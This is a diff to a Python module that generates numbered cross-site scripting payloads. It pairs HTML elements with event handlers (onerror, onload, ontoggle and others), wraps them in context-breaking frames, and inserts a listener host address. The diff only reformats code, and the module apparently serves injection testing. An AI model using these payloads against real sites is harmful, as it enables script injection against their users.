@@ -10,7 +10,17 @@ ELEMENTS = (
     "img", "svg", "iframe", "body", "input autofocus", "video", "audio", "details open", "object", "embed", "marquee",
     "select autofocus", "textarea autofocus", "button autofocus", "a tabindex=1 autofocus", "style", "link", "math", "form", "x-own",
 )  # fmt: skip
-HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onpointerenter", "onstart")
+HANDLERS = (
+    "onerror",
+    "onload",
+    "onfocus",
+    "onmouseover",
+    "ontoggle",
+    "onbegin",
+    "onanimationstart",
+    "onpointerenter",
+    "onstart",
+)
 RUN = "window.__run=MARK"
 FRAMES = (
     "{}", "'>{}", "\">{}", "</h2>{}", "</textarea>{}", "-->{}", "]]>{}", "`{}`", "**{}**", "[1] {}", "> {}", "1. {}", "### {}",
@@ -40,6 +50,8 @@ MARKDOWN = (
 def payloads(host: str) -> list[str]:
     """Return every payload, with its own number and the listener's address in it."""
     handled = [f"<{element} src=x href=x {handler}={RUN}>x" for element, handler in product(ELEMENTS, HANDLERS)]
-    framed = [frame.format(inner) for frame, inner in product(FRAMES, (*SCRIPTS[:8], *MARKDOWN[:8], handled[0], handled[10]))]
+    framed = [
+        frame.format(inner) for frame, inner in product(FRAMES, (*SCRIPTS[:8], *MARKDOWN[:8], handled[0], handled[10]))
+    ]
     every = dict.fromkeys([*handled, *SCRIPTS, *MARKDOWN, *framed])
     return [text.replace("MARK", str(number)).replace("HOST", host) for number, text in enumerate(every, 1)]
